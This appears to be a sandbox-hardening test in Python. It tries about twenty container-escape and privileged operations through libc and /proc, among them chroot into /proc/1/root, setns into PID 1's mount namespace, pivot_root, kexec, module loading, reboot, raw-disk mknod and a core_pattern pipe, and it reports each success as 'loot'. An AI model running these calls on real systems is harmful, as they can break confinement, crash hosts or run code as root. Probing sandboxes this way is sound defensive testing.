"""Mounting, chroot, other namespaces.

Every call by which a process could leave its sandbox.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def put(path, data):
    return os.write(os.open(path, os.O_WRONLY), data)


attempts = {
    "mount": lambda: libc.mount(b"proc", b"/proc", b"proc", 0, None),
    "remount": lambda: libc.mount(b"none", b"/", None, 32, None),
    "bind": lambda: libc.mount(b"/usr", b"/scratch", None, 4096, None),
    "umount": lambda: libc.umount2(b"/proc", 2),
    "pivot_root": lambda: libc.syscall(155, b"/scratch", b"/scratch"),
    "chroot": lambda: libc.chroot(b"/proc/1/root"),
    "setns": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
    "setuid": lambda: libc.setuid(12345),
    "setgroups": lambda: libc.setgroups(0, None),
    "sethostname": lambda: libc.sethostname(b"mine", 4),
    "reboot": lambda: libc.reboot(0x89ABCDEF),
    "settime": lambda: libc.clock_settime(0, (ctypes.c_long * 2)(1, 1)),
    "module": lambda: libc.syscall(175, b"", 0, b""),
    "kexec": lambda: libc.syscall(246, 0, 0, None, 0),
    "mknod": lambda: os.mknod("/scratch/disk", 0o60666, os.makedev(8, 0)),
    "hardlink": lambda: os.link("/proc/1/exe", "/scratch/exe"),
    "sysrq": lambda: put("/proc/sysrq-trigger", b"h"),
    "core": lambda: put("/proc/sys/kernel/core_pattern", b"|/scratch/x"),
    "oom": lambda: put("/proc/self/oom_score_adj", b"-1000"),
    "limit": lambda: __import__("resource").setrlimit(7, (100_000, 100_000)),
}
for name, attempt in attempts.items():
    try:
        result = attempt()
        if result is None or (isinstance(result, int) and result >= 0):
            print("loot:", name)
    except OSError:
        pass
    except ValueError:
        pass
